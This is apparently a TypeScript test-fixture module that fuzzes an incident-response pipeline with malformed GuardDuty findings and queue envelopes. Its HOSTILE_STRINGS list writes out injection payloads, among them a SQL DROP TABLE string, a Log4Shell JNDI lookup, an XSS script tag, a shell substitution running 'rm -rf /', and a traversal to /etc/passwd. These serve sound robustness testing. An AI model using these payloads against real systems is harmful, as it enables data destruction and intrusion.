import { guardDutyEventBridgeFinding } from '@ir/testkit';

/** One mutated input and what was done to it (for the failure report). */
export interface Mutation {
  readonly name: string;
  readonly body: string;
}

/** Strings people put in names and tags to break parsers, templates, logs and shells. */
export const HOSTILE_STRINGS = [
  // Template placeholders on purpose: they must reach the services literally, never expanded.
  "'; DROP TABLE incidents; --",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: an injection string under test
  '${jndi:ldap://198.51.100.1/a}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: an injection string under test
  '{{7*7}}${7*7}<%= 7*7 %>',
  '<script>alert(1)</script>',
  '$(rm -rf /)`reboot`',
  '../../../../etc/passwd',
  '\u0000\u0001\u0002\u001b[31mred',
  '\u202e\u200b\ufeffevil',
  'Ω≈ç√∫˜µ≤≥÷ 田中さん 🔥💥 𝕳𝖊𝖑𝖑𝖔',
  '\ud800',
  '%s%s%s%n%x',
  'a'.repeat(5000),
  '\\"},{"injected":true',
  '__proto__',
  'constructor',
] as const;

type Json = Record<string, unknown>;

/** A deterministic pseudo-random source (mulberry32), so a failing case can be regenerated. */
export function seeded(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const WRONG_TYPES: readonly unknown[] = [
  null,
  42,
  -1,
  1e308,
  true,
  [],
  {},
  '',
  'x',
  [1, 2],
  { a: 1 },
  Number.NaN,
];

/** Every path to a leaf or branch of a JSON value, as key lists. */
function pathsOf(value: unknown, prefix: (string | number)[] = []): (string | number)[][] {
  if (typeof value !== 'object' || value === null) return [prefix];
  const entries = Array.isArray(value)
    ? value.map((inner, index) => [index, inner] as const)
    : Object.entries(value);
  return [prefix, ...entries.flatMap(([key, inner]) => pathsOf(inner, [...prefix, key]))];
}

function setAt(root: Json, path: readonly (string | number)[], value: unknown): void {
  let node: Record<string | number, unknown> = root;
  for (const key of path.slice(0, -1)) node = node[key] as Record<string | number, unknown>;
  const last = path.at(-1);
  if (last !== undefined) node[last] = value;
}

function deleteAt(root: Json, path: readonly (string | number)[]): void {
  let node: Record<string | number, unknown> = root;
  for (const key of path.slice(0, -1)) node = node[key] as Record<string | number, unknown>;
  const last = path.at(-1);
  if (last !== undefined) delete node[last];
}

function deepNesting(depth: number): string {
  return `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
}

/**
 * At least `count` malformed or mutated GuardDuty findings (EventBridge shape) about `instanceId`:
 * truncations, wrong types at every path, deleted fields, huge values, deep nesting, unicode and
 * injection strings in names and tags, and plain garbage. Some stay valid (a hostile string in a
 * title is still a finding); the invariant is that each ends in an incident or a DLQ with a reason.
 * Bodies are unique, so each DLQ copy can be matched to what was sent. Only bodies SQS accepts are
 * made (EventBridge could not deliver others): no raw control characters outside JSON strings.
 */
export function mutatedFindings(options: {
  readonly count: number;
  readonly accountId: string;
  readonly region: string;
  readonly instanceId: string;
  readonly seed?: number;
}): Mutation[] {
  const random = seeded(options.seed ?? 20_261_122);
  const pick = <T>(list: readonly T[]): T => list[Math.floor(random() * list.length)] as T;
  const base = (marker: number): Json => {
    const event = guardDutyEventBridgeFinding({
      accountId: options.accountId,
      region: options.region,
      // LOW: a valid mutation opens at most a record-only incident, not a containment.
      severity: 2,
      findingId: `mut${marker.toString(36).padStart(6, '0')}`,
      resource: { kind: 'instance', instanceId: options.instanceId, enis: 1 },
    }) as unknown as Json;
    return event;
  };
  const paths = pathsOf(base(0)).filter((path) => path.length > 0);
  const mutations: Mutation[] = [];
  const seen = new Set<string>();
  const add = (mutation: Mutation) => {
    if (seen.has(mutation.body)) return;
    seen.add(mutation.body);
    mutations.push(mutation);
  };
  for (let marker = 0; mutations.length < options.count; marker++) {
    const event = base(marker);
    const kind = marker % 10;
    const path = pick(paths);
    const text = JSON.stringify(event);
    switch (kind) {
      case 0:
        add({
          name: `truncated at ${marker % text.length}`,
          body: text.slice(0, 1 + ((marker * 7919) % (text.length - 1))),
        });
        break;
      case 1:
        setAt(event, path, pick(WRONG_TYPES));
        add({ name: `wrong type at ${path.join('.')}`, body: JSON.stringify(event) });
        break;
      case 2:
        deleteAt(event, path);
        add({ name: `deleted ${path.join('.')}`, body: JSON.stringify(event) });
        break;
      case 3: {
        const hostile = pick(HOSTILE_STRINGS);
        setAt(event, ['detail', 'title'], hostile);
        setAt(
          event,
          ['detail', 'resource', 'instanceDetails', 'tags'],
          [{ key: hostile, value: pick(HOSTILE_STRINGS) }],
        );
        add({ name: 'hostile strings in title and tags', body: JSON.stringify(event) });
        break;
      }
      case 4:
        setAt(event, path, pick(HOSTILE_STRINGS));
        add({ name: `hostile string at ${path.join('.')}`, body: JSON.stringify(event) });
        break;
      case 5:
        setAt(event, ['detail', 'description'], 'x'.repeat(200_000 + (marker % 50_000)));
        add({ name: 'huge description', body: JSON.stringify(event) });
        break;
      case 6:
        add({
          name: 'deep nesting',
          body: JSON.stringify(event).replace(
            '"schemaVersion":"2.0"',
            `"schemaVersion":${deepNesting(2_000 + (marker % 3) * 4_000)}`,
          ),
        });
        break;
      case 7:
        setAt(event, ['detail', 'type'], `${pick(HOSTILE_STRINGS)}:EC2/${pick(HOSTILE_STRINGS)}`);
        add({ name: 'hostile finding type', body: JSON.stringify(event) });
        break;
      case 8:
        setAt(
          event,
          ['detail-type'],
          pick(['GuardDuty Finding ', 'guardduty finding', '', 'Security Hub Findings - Imported']),
        );
        add({ name: 'wrong detail-type', body: JSON.stringify(event) });
        break;
      default:
        add({
          name: 'garbage',
          body: pick([
            `not json ${marker}`,
            `[${marker}]`,
            `"${marker}"`,
            `${marker}`,
            `{"marker":${marker}}`,
            `\ufffd${marker}`,
            `{"detail":${marker}}`,
          ]),
        });
    }
  }
  return mutations;
}

/** Malformed command envelopes for a worker queue: each must go to its DLQ with a reason. */
export function malformedEnvelopes(count: number, seed = 7): Mutation[] {
  const random = seeded(seed);
  const envelope = (index: number): Json => ({
    v: 1,
    id: `00000000-0000-4000-8000-${index.toString(16).padStart(12, '0')}`,
    type: 'contain.ec2-instance',
    incidentId: `inc-${index}`,
    correlationId: `inc-${index}`,
    causationId: null,
    sentAt: new Date().toISOString(),
    producer: 'reliability-test',
    dryRun: false,
    payload: { stepId: 'x', params: {} },
  });
  return Array.from({ length: count }, (_, index) => {
    const body = envelope(index);
    const variant = index % 5;
    if (variant === 0) return { name: 'truncated envelope', body: JSON.stringify(body).slice(0, 30 + index) };
    if (variant === 1)
      return { name: 'unknown type', body: JSON.stringify({ ...body, type: `no.such-${index}` }) };
    if (variant === 2)
      return { name: 'payload wrong type', body: JSON.stringify({ ...body, payload: index }) };
    if (variant === 3)
      return { name: 'deep nesting', body: deepNesting(1_000 + Math.floor(random() * 5_000)) };
    return {
      name: 'hostile id',
      body: JSON.stringify({ ...body, id: HOSTILE_STRINGS[index % HOSTILE_STRINGS.length] }),
    };
  });
}
